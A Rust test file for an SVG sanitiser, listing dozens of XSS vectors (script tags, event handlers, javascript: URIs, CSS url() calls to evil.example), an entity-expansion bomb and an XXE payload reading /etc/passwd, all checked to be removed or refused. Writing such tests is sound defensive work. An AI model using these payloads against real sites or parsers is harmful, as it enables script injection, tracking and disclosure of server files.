use super::*;

fn cleaned(inner: &str) -> String {
    let text =
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">{inner}</svg>");
    String::from_utf8(clean(text.as_bytes()).unwrap().bytes).unwrap()
}

/// Everything known to run, load or link; each must be gone whatever else stays.
pub(in super::super) const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script href='//evil.example/x.js'/>",
    "<script><![CDATA[alert(1)]]></script>",
    "<svg:script>alert(1)</svg:script>",
    "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
    "<g onload='alert(1)'/>",
    "<g ONLOAD='alert(1)' OnClick='alert(1)'/>",
    "<rect onmouseover='alert(1)' width='1'/>",
    "<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<a xlink:href='&#106;avascript:alert(1)'><text>x</text></a>",
    "<a xlink:href='java&#10;script:alert(1)'><text>x</text></a>",
    "<use href='//evil.example/x.svg#a'/>",
    "<use xlink:href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x'/>",
    "<image href='https://evil.example/track.png'/>",
    "<image xlink:href='javascript:alert(1)'/>",
    "<image href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'/>",
    "<image href='data:text/html;base64,PHNjcmlwdD4='/>",
    "<feImage href='https://evil.example/x.png'/>",
    "<animate attributeName='href' to='javascript:alert(1)'/>",
    "<animate attributeName='xlink:href' values='javascript:alert(1)'/>",
    "<set attributeName='onmouseover' to='alert(1)'/>",
    "<set attributeName='href' to='https://evil.example/'/>",
    "<set to='javascript:alert(1)'/>",
    "<animate attributeName='fill' values='url(https://evil.example/)'/>",
    "<rect style='fill:url(https://evil.example/x)'/>",
    "<rect style='background:url(javascript:alert(1))'/>",
    "<rect style='fill:u\\72l(https://evil.example/)'/>",
    "<rect style='fill:url/**/(https://evil.example/)'/>",
    "<rect style='fill:image-set(\"https://evil.example/\" 1x)'/>",
    "<rect style='width:expression(alert(1))'/>",
    "<rect style='-moz-binding:url(https://evil.example/x#x)'/>",
    "<rect style='behavior:url(#default#time2)'/>",
    "<rect fill='url(https://evil.example/#a)'/>",
    "<rect fill='url( \"https://evil.example/#a\" )'/>",
    "<rect filter='url(//evil.example/f.svg#x)'/>",
    "<rect mask='URL(//evil.example/f.svg#x)'/>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>",
    "<style>rect{fill:url(https://evil.example/)}</style>",
    "<style>rect{background:url(https://evil.example/)}</style>",
    "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
    "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
    "<handler xmlns='http://www.w3.org/2001/xml-events' type='text/javascript'>alert(1)</handler>",
    "<listener event='load' handler='#x'/>",
    "<iframe src='javascript:alert(1)'/>",
    "<embed src='https://evil.example/'/>",
    "<object data='https://evil.example/'/>",
    "<audio src='https://evil.example/' onerror='alert(1)'/>",
    "<video><source onerror='alert(1)'/></video>",
    "<img src='x' onerror='alert(1)'/>",
    "<math><mi xlink:href='javascript:alert(1)'/></math>",
    "<g xml:base='https://evil.example/'><use href='#x'/></g>",
    "<discard href='https://evil.example/'/>",
    "<tref xlink:href='https://evil.example/#x'/>",
    "<cursor xlink:href='https://evil.example/x'/>",
    "<color-profile xlink:href='https://evil.example/x'/>",
    "<font-face-uri xlink:href='https://evil.example/x'/>",
    "<metadata><rdf:RDF xmlns:rdf='x'>GPS 52.5200 alert(1)</rdf:RDF></metadata>",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<!-- <script>alert(1)</script> -->",
    "<text><tspan onfocus='alert(1)' tabindex='1'>x</tspan></text>",
];

/// What no cleaned drawing contains.
pub(in super::super) fn is_harmless(svg: &str) -> Result<(), String> {
    let lower = svg.to_lowercase();
    for trace in [
        "evil.example",
        "alert",
        "<script",
        "javascript",
        "foreignobject",
        "iframe",
        " on",
        "@import",
        "<?",
        "<!",
        "text/html",
        "svg+xml",
        "xml:base",
        "\\",
    ] {
        if lower.contains(trace) {
            return Err(format!("{trace} in {svg}"));
        }
    }
    Ok(())
}

#[test]
fn nothing_that_runs_loads_or_links_is_left() {
    for vector in VECTORS {
        is_harmless(&cleaned(vector)).unwrap();
        is_harmless(&cleaned(&format!("<g><a>{vector}</a></g>"))).unwrap();
    }
}

#[test]
fn an_ordinary_drawing_looks_as_before() {
    for part in [
        "<path d=\"M0 0h10v10z\" fill=\"#f00\" stroke=\"rgb(1,2,3)\"/>",
        "<linearGradient id=\"a\"><stop offset=\"0\" stop-color=\"red\"/></linearGradient>",
        "<rect fill=\"url(#a)\" transform=\"translate(1 2) rotate(45)\"/>",
        "<use xlink:href=\"#a\" x=\"3\"/>",
        "<text x=\"1\">Fish &amp; <tspan>chips</tspan></text>",
        "<rect style=\"fill:red;stroke-width:2px;\"/>",
        "<style>.a{fill:red;}#b, g &gt; rect{stroke:url(#a);}</style>",
        "<animate attributeName=\"opacity\" values=\"0;1\" dur=\"2s\" repeatCount=\"indefinite\"/>",
        "<filter id=\"f\"><feGaussianBlur stdDeviation=\"3\"/></filter>",
    ] {
        assert!(cleaned(part).contains(part), "{part}\n{}", cleaned(part));
    }
    assert!(cleaned("<a href='https://example.org'><text>kept</text></a>").contains("<text>kept</text>"));
    assert!(cleaned("<text>&lt;script&gt;</text>").contains("<text>&lt;script&gt;</text>"));
    assert!(cleaned("<text><![CDATA[a < b]]></text>").contains("a &lt; b"));
}

#[test]
fn cleaning_twice_changes_nothing() {
    for vector in VECTORS {
        let once = cleaned(vector);
        assert_eq!(clean(once.as_bytes()).unwrap().bytes, once.as_bytes());
    }
}

#[test]
fn an_embedded_photo_loses_its_position() {
    let photo = STANDARD.encode(super::super::samples::jpeg_with_exif(20, 10, 1));
    let out = cleaned(&format!("<image width='9' xlink:href='data:image/jpeg;base64,{photo}'/>"));
    let kept = out.split_once("base64,").unwrap().1.split_once('"').unwrap().0;
    let bytes = STANDARD.decode(kept).unwrap();
    assert!(bytes.starts_with(b"\xff\xd8") && !bytes.windows(4).any(|w| w == b"Exif"));
}

#[test]
fn entities_bombs_and_broken_files_are_refused() {
    let bomb = "<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><svg><text>&b;</text></svg>";
    let read = "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg><text>&x;</text></svg>";
    let deep = "<svg>".to_owned() + &"<g>".repeat(300) + &"</g>".repeat(300) + "</svg>";
    let uses = "<svg>".to_owned() + &"<use href='#a'/>".repeat(501) + "</svg>";
    for (svg, code) in [
        (bomb, Code::UnsupportedMedia),
        (read, Code::UnsupportedMedia),
        ("<svg><text>&nbsp;</text></svg>", Code::UnsupportedMedia),
        ("<svg><rect fill='&x;'/></svg>", Code::UnsupportedMedia),
        (&deep, Code::TooLarge),
        (&uses, Code::TooLarge),
        (&" ".repeat(MAX_BYTES + 1), Code::TooLarge),
        ("<svg><g></svg>", Code::MediaBroken),
        ("<svg>", Code::MediaBroken),
        ("<svg/><script>alert(1)</script>", Code::MediaBroken),
        ("<html><svg/></html>", Code::MediaBroken),
        ("<svg a='1' a='2'/>", Code::MediaBroken),
        ("", Code::MediaBroken),
    ] {
        assert_eq!(clean(svg.as_bytes()).unwrap_err().as_code(), code, "{:.80}", svg);
    }
    assert_eq!(clean(b"<svg>\xff</svg>").unwrap_err().as_code(), Code::MediaBroken);
    assert!(clean(b"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"x.dtd\"><svg/>").is_ok());
}

#[test]
fn the_size_is_read_from_either_place() {
    for (svg, size) in [
        ("<svg width='20px' height='10'/>", (20, 10)),
        ("<svg viewBox='0 0 24 12'/>", (24, 12)),
        ("<svg width='100%' viewBox='0,0,24,12'/>", (24, 12)),
        ("<svg width='NaN' height='-5'/>", (0, 0)),
        ("<svg/>", (0, 0)),
    ] {
        let clean = clean(svg.as_bytes()).unwrap();
        assert_eq!((clean.width, clean.height), size, "{svg}");
    }
}
